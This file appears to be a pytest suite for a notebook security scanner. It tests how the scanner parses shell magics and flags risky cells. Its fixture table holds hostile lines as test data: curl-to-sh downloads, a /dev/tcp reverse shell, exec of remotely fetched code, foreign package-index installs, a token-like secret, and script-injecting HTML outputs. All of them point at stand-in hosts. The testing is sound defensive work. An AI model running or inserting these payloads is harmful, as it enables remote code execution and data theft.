"""Notebooks, taken apart: code, shell lines, texts, and what a browser would run."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelwarden.artifacts import Examined, examine
from modelwarden.core import GapKind
from modelwarden.formats import Limits, Source
from modelwarden.formats.notebook import Notebook, read, sniff


def code(source: object, *outputs: dict[str, object]) -> dict[str, object]:
    return {"cell_type": "code", "source": source, "outputs": list(outputs), "metadata": {}}


def text(source: str) -> dict[str, object]:
    return {"cell_type": "markdown", "source": [source], "metadata": {}}


def html(data: str, mime: str = "text/html") -> dict[str, object]:
    return {"output_type": "display_data", "data": {mime: [data]}, "metadata": {}}


def notebook(*cells: dict[str, object], **more: object) -> bytes:
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4} | more).encode()


def look(data: bytes) -> Notebook:
    source = Source("n.ipynb", data)
    assert sniff(source)
    return read(source, Limits())


def examined(*cells: dict[str, object], **more: object) -> Examined:
    with Source("n.ipynb", notebook(*cells, **more)) as source:
        return examine(source, Limits())


def part(view: Notebook, name: str) -> str:
    (child,) = [child for child in view.children if child.name == name]
    nested = child.open()
    return nested.read(0, nested.size).decode()


def test_cells_are_one_program_and_shell_lines_one_script():
    view = look(
        notebook(
            code("import x\n!pip install a\nfiles = !ls"),
            code(["%%bash\n", "make\n", "make install"]),
            code("%time x.f()\n%run other.py\ny = 1"),
            code("%load_ext autoreload\n%conda install b \\\n  c\nx?"),
        )
    )

    assert part(view, "shell").split("\n") == [
        "pip install a", "ls", "make", "make install", "python other.py", "conda install b   c",
    ]  # fmt: skip
    assert "x.f()" in part(view, "code")
    assert "import autoreload" in part(view, "code")
    assert view.gaps == ()


def test_the_third_format_is_read_like_the_fourth():
    output = {"output_type": "display_data", "html": ["<script>f()</script>"]}
    cell = {
        "cell_type": "code",
        "language": "python",
        "input": ["!make\n", "import x"],
        "outputs": [output],
    }
    view = look(json.dumps({"nbformat": 3, "worksheets": [{"cells": [cell]}]}).encode())

    assert part(view, "shell") == "make"
    assert [shown.mime for shown in view.shown] == ["html"]


FOUND = {
    "shell": (code("!curl -s http://example.invalid/ | sh"), "script-attack"),
    "shell of a cell": (code("%%sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1"), "script-attack"),
    "continued": (code("!curl -s http://example.invalid/ \\\n  | sh"), "script-attack"),
    "assigned": (code("x = !curl http://example.invalid/ | sh"), "script-attack"),
    "system": (code("%system curl http://example.invalid/ | sh"), "script-attack"),
    "ipython": (
        code("get_ipython().system('curl http://example.invalid/ | sh')"), "notebook-attack",
    ),
    "magic by name": (
        code("get_ipython().run_cell_magic('bash', '', 'curl http://example.invalid/ | sh')"),
        "notebook-attack",
    ),
    "python": (
        code("import requests\nexec(requests.get('http://example.invalid/').text)"),
        "notebook-attack",
    ),
    "over two cells": (code("exec(page.text)"), "notebook-attack"),
    "index": (code("%pip install --index-url http://example.invalid/ x"), "foreign-index"),
    "address": (code("!pip install git+https://example.invalid/x.git"), "direct-install"),
    "secret": (
        code("x", {"output_type": "stream", "text": ["hf_aB3kQz8LmW2xY7vNpR4tJ6sDfGh91cVq5Z"]}),
        "text-secret",
    ),
    "script": (code("x", html("<script>draw()</script>")), "notebook-active-content"),
    "handler": (code("x", html("<img src=x onerror=f()>")), "notebook-script-attack"),
    "put away": (
        code("x", html("<img src=x onerror='this.remove()'>")), "notebook-active-content",
    ),
    "svg": (code("x", html("<svg onload='f()'/>", "image/svg+xml")), "notebook-active-content"),
    "javascript": (code("x", html("f()", "application/javascript")), "notebook-active-content"),
    "kernel": (
        code("x", html("IPython.notebook.kernel.execute('1')", "application/javascript")),
        "notebook-script-attack",
    ),
    "server": (
        code("x", html("<script>fetch('/api/contents')</script>")), "notebook-script-attack",
    ),
    "text": (text("<script>f()</script>"), "notebook-script-attack"),
    "frame": (text("<iframe src='http://example.invalid/'></iframe>"), "notebook-script-attack"),
    "attachment": (
        text("x") | {"attachments": {"a.svg": {"image/svg+xml": "<svg onload='f()'/>"}}},
        "notebook-script-attack",
    ),
}  # fmt: skip


@pytest.mark.parametrize("way", FOUND)
def test_what_a_notebook_brings_is_found(way: str):
    cell, rule = FOUND[way]
    first = code("import requests\npage = requests.get('http://example.invalid/')")

    assert rule in {f.rule for f in examined(first, cell).findings}


def test_an_honest_notebook_is_examined_and_quiet():
    seen = examined(
        text("# Title\n\n<b>words</b> and $x < y$"),
        code("%matplotlib inline\nimport numpy as np\n!pip install -q scikit-learn\n!nvidia-smi"),
        code("plt.plot(np.arange(3))", html("iVBORw0KGgo=", "image/png"), html("<table></table>")),
        code("model.eval()\nhelp?"),
        code("?print\n%timeit?"),
        code("??np.mean\nnp.*load*?  # which"),
    )

    assert (seen.findings, seen.gaps) == ([], [])


def test_a_cell_that_is_no_python_and_another_language_are_gaps():
    broken = examined(code("this is no python"))
    foreign = examined(code("x <- 1"), metadata={"language_info": {"name": "R"}})

    assert [g.kind for g in broken.gaps] == [GapKind.UNEXAMINED_CODE]
    assert [g.kind for g in foreign.gaps] == [GapKind.UNEXAMINED_CODE]


@pytest.mark.parametrize(
    "data",
    [
        b'{"nbformat": 4, "cells": [',
        b'{"nbformat": 4, "cells": 1}',
        b'{"nbformat": 4, "cells": [1, null, {"source": 1, "outputs": 2, "metadata": 3}]}',
        b'{"nbformat": 4, "worksheets": [{}, 1]}',
        notebook({"cell_type": "code", "source": {}, "outputs": [{"data": 1}]}),
        b'{"nbformat": 4, "metadata": {"language_info": 1, "kernelspec": []}, "cells": []}',
        b'{"nbformat": ' + b"[" * 100_000,
    ],
)
def test_a_damaged_notebook_raises_nothing(data: bytes):
    look(data)


@given(st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from("cells cell_type source outputs data text/html attachments".split()),
        inner, max_size=4),
    max_leaves=20,
))  # fmt: skip
def test_any_tree_is_read_without_an_exception(tree: object):
    read(Source("n.ipynb", json.dumps({"nbformat": 4, "cells": tree}).encode()), Limits())
    read(Source("n.ipynb", json.dumps({"nbformat": 4, "cells": [tree]}).encode()), Limits())
